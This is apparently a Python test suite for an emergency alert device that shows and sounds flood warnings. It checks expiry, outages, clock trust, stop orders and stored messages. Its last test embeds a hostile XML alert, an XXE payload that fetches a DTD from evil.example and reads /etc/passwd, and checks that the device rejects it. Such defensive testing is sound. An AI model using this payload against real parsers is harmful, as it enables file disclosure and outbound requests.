"""Public alerts against time, stops, silence of the network and hostile hands."""

from __future__ import annotations

import asyncio
import hashlib
from datetime import datetime, timedelta

import pytest

from edge_agent.command.alert_settings import StoredMessage
from tests import alerts
from tests.flows import hearing
from tests.flows.alert_scene import SHOWN, TONE_S, flood, loud_s, now, shown, village_with, warn
from tests.flows.conftest import Programme
from tests.flows.scene import Village
from tests.flows.test_board import meant


@pytest.fixture
def village() -> Village:
    return village_with()


# ---------------------------------------------------------------- time


def test_an_alert_that_has_ended_is_not_aired(village: Village) -> None:
    async def story() -> None:
        sent = now(village) - timedelta(hours=2)
        ended = alerts.alert("lu-1", sent, alerts.block(expires=now(village) - timedelta(seconds=1)))
        silent = alerts.alert("lu-2", sent, alerts.block())
        for text in (ended, silent):
            order = warn(village, text)
            assert await village.ends(order) == ["expired"]

    village.tell(story)
    assert loud_s(village) == 0


def test_the_board_is_given_back_when_the_alert_ends_and_never_later_than_the_ceiling() -> None:
    village = village_with(max_expiry_min=120)

    async def story() -> None:
        for number, ends_h in enumerate((1, 48)):
            text = alerts.alert(
                f"lu-{number}", now(village), alerts.block(expires=now(village) + timedelta(hours=ends_h))
            )
            began_s = asyncio.get_running_loop().time()
            await village.ends(warn(village, text))
            await village.until(lambda: not village.world.sign.current.lit, within_s=10_000)
            stood_s = asyncio.get_running_loop().time() - began_s
            assert stood_s == pytest.approx(3600 * min(ends_h, 2), abs=30)

    village.tell(story)


def test_a_restart_in_the_middle_says_it_again_and_a_long_outage_does_not(village: Village) -> None:
    async def story() -> None:
        text = alerts.alert("lu-1", now(village), alerts.block(expires=now(village) + timedelta(minutes=30)))
        order = warn(village, text)
        await village.reaches(order, "executing")
        await asyncio.sleep(8)
        await village.world.outage(dark_s=20)
        await village.until(lambda: village.world.sign.current.lit, within_s=120)
        assert await village.ends(order) == ["successful"]
        text = alerts.alert("lu-2", now(village), alerts.block(expires=now(village) + timedelta(minutes=5)))
        late = warn(village, text)
        await village.reaches(late, "executing")
        await asyncio.sleep(8)
        await village.world.outage(dark_s=600)
        assert await village.ends(late) == ["expired"]
        await asyncio.sleep(60)
        assert not village.world.sign.current.lit

    village.tell(story)


def test_with_a_doubtful_clock_the_nonce_vouches_and_an_outage_ends_the_alert() -> None:
    village = Village(1, settings=village_with().settings, battery=False)
    village.world.clock.lose()

    async def story() -> None:
        text = alerts.alert("lu-1", now(village), alerts.block())
        blind = warn(village, text)
        assert await village.ends(blind) == ["rejected"]
        assert village.code(blind) == "clock_untrusted"
        nonce = village.up("state")[-1]["nonce"]
        order = warn(village, text, nonce=nonce)
        assert await village.ends(order) == ["successful"]
        later = alerts.alert("lu-2", now(village), alerts.block())
        cut = warn(village, later, nonce=nonce)
        await village.reaches(cut, "executing")
        await asyncio.sleep(8)
        await village.world.outage(dark_s=7200)
        assert await village.ends(cut) == ["interrupted"]

    village.tell(story)


# ---------------------------------------------------------------- stops


def test_a_stop_by_class_silences_and_a_stop_by_name_also_clears(village: Village) -> None:
    async def story() -> None:
        first = flood(village)
        await village.reaches(first, "executing")
        await village.until(lambda: village.world.sign.current.lit)
        await village.ends(village.order("stop"))
        assert await village.ends(first) == ["cancelled"]
        await asyncio.sleep(5)
        assert village.world.sign.current.lit, "what the board shows still holds"
        second = flood(village, "lu-2")
        await village.reaches(second, "executing")
        await asyncio.sleep(8)
        stop = village.order("stop", order=second)
        assert await village.ends(stop, second) == ["successful", "cancelled"]
        await asyncio.sleep(5)
        assert shown(village) not in meant(SHOWN, emergency=True) or not village.world.sign.current.lit

    village.tell(story)


# ---------------------------------------------------------------- stored messages


def stored(programme: Programme) -> StoredMessage:
    digest = f"sha256:{hashlib.sha256(programme.blob).hexdigest()}"
    return StoredMessage(
        media=digest, url=f"http://media.example/{programme.name}", text="LŨ QUÉT. CHẠY NGAY"
    )


def test_a_stored_message_plays_without_network_and_without_a_voice(alarm: Programme) -> None:
    village = village_with(messages={"lu-quet": stored(alarm)}, times=1)
    alarm.on(village)

    async def story() -> None:
        await asyncio.sleep(6)
        village.world.web_server.network = "lost"
        await village.restart()
        village.world.speech.missing = True
        order = village.order("alert", "emergency", message="lu-quet")
        assert await village.ends(order) == ["successful"]
        assert shown(village) in meant("LŨ QUÉT. CHẠY NGAY", emergency=True)
        parameter = "<parameter><valueName>pa-message</valueName><value>lu-quet</value></parameter>"
        named = alerts.alert("lu-1", now(village), alerts.block(more=parameter))
        assert await village.ends(warn(village, named)) == ["successful"]
        both = alerts.alert("lu-2", now(village), alerts.block())
        assert await village.ends(warn(village, both, message="lu-quet")) == ["successful"]

    village.tell(story)
    heard = hearing.recording(village.world.lives()[1])
    for _ in range(3):
        place = hearing.find(heard[: 9 * hearing.RATE_HZ], alarm.frames, len(alarm.frames) // 2)
        assert place.gain > 0.1
        assert hearing.same(heard, alarm.frames, place, 960, len(alarm.frames) - 960)
        heard = heard[place.offset + len(alarm.frames) :]


def test_a_message_that_is_not_stored_is_refused_by_name(village: Village) -> None:
    async def story() -> None:
        order = village.order("alert", "emergency", message="dong-dat")
        assert await village.ends(order) == ["rejected"]
        assert (village.code(order), "dong-dat" in village.told(order)[-1]["reason"]["text"]) == (
            "bad_args",
            True,
        )

    village.tell(story)


def test_a_stored_message_that_is_missing_raises_an_alert_long_before_it_is_needed(alarm: Programme) -> None:
    village = village_with(messages={"lu-quet": stored(alarm)})

    async def story() -> None:
        await village.until(lambda: village.up("alert/message_missing"), within_s=4000)
        assert "lu-quet" in village.up("alert/message_missing")[-1]["text"]
        order = village.order("alert", "emergency", message="lu-quet")
        assert await village.ends(order) == ["failed"], "the tone alone is not the message"
        alarm.on(village)
        await asyncio.sleep(2 * 3600)
        assert village.up("alert/message_missing")[-1] is None

    village.tell(story)


def test_without_a_voice_the_tone_sounds_and_the_board_shows(village: Village) -> None:
    async def story() -> None:
        village.world.speech.missing = True
        text = alerts.alert("lu-1", now(village), alerts.block())
        order = warn(village, text)
        assert await village.ends(order) == ["failed"]
        assert village.code(order) == "hardware_fault"
        assert shown(village) in meant(SHOWN, emergency=True)
        await village.quiet()
        assert village.report(order)["outcome"] == "PARTIAL"

    village.tell(story)
    assert loud_s(village) > 2 * TONE_S * 0.9


# ---------------------------------------------------------------- hostile


def test_hostile_xml_reads_no_file_and_opens_no_connection(village: Village) -> None:
    hostile = (
        '<?xml version="1.0"?><!DOCTYPE alert SYSTEM "http://evil.example/a.dtd" ['
        '<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + alerts.alert("x", datetime(2026, 11, 24, 8, tzinfo=alerts.VIETNAM), alerts.block())
        .split("?>", 1)[1]
        .replace(alerts.HEADLINE, "&x;")
    )

    async def story() -> None:
        order = warn(village, hostile)
        assert await village.ends(order) == ["rejected"]
        assert village.code(order) == "bad_args"

    village.tell(story)
    assert not village.world.web_server.requests
    assert loud_s(village) == 0
